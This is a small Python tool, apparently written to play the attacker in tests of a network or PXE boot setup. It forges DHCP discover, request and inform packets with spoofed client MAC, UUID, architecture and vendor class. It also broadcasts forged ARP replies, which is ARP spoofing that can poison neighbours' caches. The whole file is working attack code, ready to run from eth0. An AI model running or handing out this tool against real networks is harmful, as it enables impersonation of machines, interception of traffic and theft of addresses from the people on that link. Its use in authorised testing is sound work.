"""Sends what an attacker writes himself, from eth0 of the host that it runs on.

forge.py dhcp TYPE CHADDR [name=value ...]   prints the answer's type and address, or "none"
    name=value: uuid=, arch=, requested=, server=, ciaddr=, class=, wait=SECONDS
forge.py arp ADDRESS MAC TARGET              says on the link that ADDRESS is at MAC, in a frame from eth0's own MAC
"""
import fcntl, os, random, socket, struct, sys, time, uuid

CARD = "eth0"
TYPES = {"discover": 1, "request": 3, "inform": 8}
ANSWERS = {2: "offer", 5: "ack", 6: "nak"}


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def option(code, value):
    return bytes([code, len(value)]) + value


def dhcp(kind, chaddr, more):
    xid = random.randrange(1 << 32)
    options = option(53, bytes([TYPES[kind]]))
    if "requested" in more:
        options += option(50, socket.inet_aton(more["requested"]))
    if "server" in more:
        options += option(54, socket.inet_aton(more["server"]))
    if "class" in more:
        options += option(60, more["class"].encode())
    if "arch" in more:
        options += option(93, struct.pack("!H", int(more["arch"])))
    if "uuid" in more:  # RFC 4578: in the byte order of SMBIOS
        options += option(97, b"\0" + uuid.UUID(more["uuid"]).bytes_le)
    packet = struct.pack("!BBBBIHH4s4s4s4s16s192s", 1, 1, 6, 0, xid, 0, 0x8000, socket.inet_aton(more.get("ciaddr", "0.0.0.0")),
                         b"\0" * 4, b"\0" * 4, b"\0" * 4, mac(chaddr) + b"\0" * 10, b"\0" * 192) + b"\x63\x82\x53\x63" + options + b"\xff"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, CARD.encode())
        s.bind(("0.0.0.0", 68))
        s.sendto(packet, ("255.255.255.255", 67))
        end = time.monotonic() + float(more.get("wait", "10"))
        while (left := end - time.monotonic()) > 0:
            s.settimeout(left)
            try:
                answer = s.recv(4096)
            except TimeoutError:
                break
            if answer[0] == 2 and answer[4:8] == packet[4:8]:
                at = answer.index(b"\x35\x01", 240)
                return f"{ANSWERS[answer[at + 2]]} {socket.inet_ntoa(answer[16:20])}"
    return "none"


def arp(address, at, target):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806)) as s:
        s.bind((CARD, 0))
        own = fcntl.ioctl(s.fileno(), 0x8927, struct.pack("256s", CARD.encode()))[18:24]
        body = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, mac(at), socket.inet_aton(address), b"\xff" * 6, socket.inet_aton(target))
        s.send(b"\xff" * 6 + own + b"\x08\x06" + body)
    return "sent"


if sys.argv[1] == "dhcp":
    print(dhcp(sys.argv[2], sys.argv[3], dict(a.split("=", 1) for a in sys.argv[4:])))
else:
    print(arp(*sys.argv[2:5]))
